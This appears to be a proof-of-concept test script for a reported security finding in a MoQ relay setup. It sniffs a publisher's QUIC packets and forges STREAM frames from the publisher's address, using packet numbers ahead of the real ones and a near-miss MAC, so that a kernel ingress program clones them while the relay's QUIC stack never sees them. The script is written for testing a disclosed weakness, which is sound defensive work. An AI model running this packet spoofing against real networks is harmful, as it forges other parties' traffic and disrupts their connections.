#!/usr/bin/env python3
"""Spoof a publisher's STREAM frame at chosen offsets (issue 17 finding 2b).

    spoof_stream.py IFACE RELAY_IP RELAY_PORT OFFSET...

Run in the publisher's namespace while it sends. Watches IFACE for the
publisher's next plaintext-profile 1-RTT packet to RELAY_IP:RELAY_PORT with
a STREAM frame (after PADDING and ACK frames, as the kernel allows) of a
client uni stream at an offset > 0 (a live subgroup stream), then sends, from the publisher's address and port, one
copy per OFFSET: same DCID, packet number PN_AHEAD + i past the seen one
(new: the kernel clones only numbers it has not seen, issue 17 finding
2a), one STREAM frame of 16 bytes at OFFSET on the same stream, the
plaintext tag; as an Ethernet frame to a MAC one bit off the relay's. The
relay's tc ingress program sees and clones it (it does not look at the
MAC); the relay's IP stack then drops it as not for this host, so its QUIC
stack, which would accept the fresh number and close the publisher's
connection for the offset, never sees it. Prints "spoofed sid=S pn=P+N
offsets=..." and exits 0, or exits 1 when no such packet came within 10 s.
"""
import socket
import struct
import sys
import time

TAG = b"moq-plaintext-v1"
ETH_P_ALL = 3
PACKET_OUTGOING = 4
# ahead of the publisher's own number (its packets with these numbers come
# later; the kernel leaves those to the agent), well inside the kernel's
# window of 225-256 numbers
PN_AHEAD = 64


def qv(b, pos):
    """QUIC varint at b[pos]: (value, length)."""
    n = 1 << (b[pos] >> 6)
    v = b[pos] & 0x3F
    for i in range(1, n):
        v = (v << 8) | b[pos + i]
    return v, n


def qv8(v):
    return struct.pack(">Q", (3 << 62) | v)


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def live_stream_packet(frame, relay_ip, relay_port):
    """(frame, udp payload, stream id, its 4 bytes) of a matching packet, else None."""
    if len(frame) < 14 + 20 + 8 or frame[12:14] != b"\x08\x00":
        return None
    ip = frame[14:]
    ihl = (ip[0] & 15) * 4
    if ip[9] != 17 or socket.inet_ntoa(ip[16:20]) != relay_ip:
        return None
    sport, dport = struct.unpack(">HH", ip[ihl:ihl + 4])
    pay = ip[ihl + 8:struct.unpack(">H", ip[2:4])[0]]
    if dport != relay_port or len(pay) < 13 + 8 + 16 or pay[0] != 0x43:
        return None
    p = skip_acks(pay, 13, len(pay) - 16)
    if p is None or p + 5 > len(pay) - 16:
        return None
    t = pay[p]
    if t & 0xF8 != 0x08 or not t & 0x04 or pay[p + 1] >> 6 != 2:
        return None
    sid, _ = qv(pay, p + 1)
    off, _ = qv(pay, p + 5)
    if sid & 3 != 2 or off == 0:
        return None
    return frame, pay, sid, pay[p + 1:p + 5]


def skip_acks(pay, p, end):
    """Position of the first frame after leading PADDING and ACK frames (a
    busy publisher's packets often start with an ACK), or None."""
    try:
        while p < end and pay[p] in (0x00, 0x02, 0x03):
            if pay[p] == 0x00:
                p += 1
                continue
            ecn = pay[p] == 0x03
            p += 1
            for _ in range(2):  # largest, delay
                p += qv(pay, p)[1]
            n, ln = qv(pay, p)
            p += ln
            p += qv(pay, p)[1]  # first range
            for _ in range(2 * n + (3 if ecn else 0)):
                p += qv(pay, p)[1]
        return p if p < end else None
    except IndexError:
        return None


def main():
    iface, relay_ip, relay_port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    offsets = [int(x, 0) for x in sys.argv[4:]]
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sniff.bind((iface, 0))
    sniff.settimeout(0.5)
    end = time.time() + 10
    while time.time() < end:
        try:
            frame, addr = sniff.recvfrom(65535)
        except socket.timeout:
            continue
        if addr[2] != PACKET_OUTGOING:
            continue
        m = live_stream_packet(frame, relay_ip, relay_port)
        if m:
            break
    else:
        print("no live stream packet of the publisher seen", file=sys.stderr)
        return 1
    frame, pay, sid, sidb = m
    ihl = (frame[14] & 15) * 4
    sport = struct.unpack(">H", frame[14 + ihl:16 + ihl])[0]
    # one bit off the relay's MAC, still unicast: PACKET_OTHERHOST there
    dst = frame[:5] + bytes([frame[5] ^ 0x02])
    pn = struct.unpack(">I", pay[9:13])[0]
    for i, off in enumerate(offsets):
        q = pay[:9] + struct.pack(">I", (pn + PN_AHEAD + i) & 0xFFFFFFFF) + bytes([0x0E])
        q += sidb + qv8(off) + struct.pack(">H", 0x4000 | 16) + b"\x5a" * 16 + TAG
        udp = struct.pack(">HHHH", sport, relay_port, 8 + len(q), 0) + q
        pseudo = frame[26:30] + frame[30:34] + struct.pack(">BBH", 0, 17, len(udp))
        c = csum(pseudo + udp) or 0xFFFF
        udp = udp[:6] + struct.pack(">H", c) + udp[8:]
        ip = bytearray(frame[14:34])
        ip[0] = 0x45
        ip[2:4] = struct.pack(">H", 20 + len(udp))
        ip[10:12] = b"\0\0"
        ip[10:12] = struct.pack(">H", csum(bytes(ip)))
        sniff.send(dst + frame[6:14] + bytes(ip) + udp)
    print("spoofed sid=%d pn=%d+%d offsets=%s" % (sid, pn, PN_AHEAD, ",".join(map(str, offsets))),
          flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
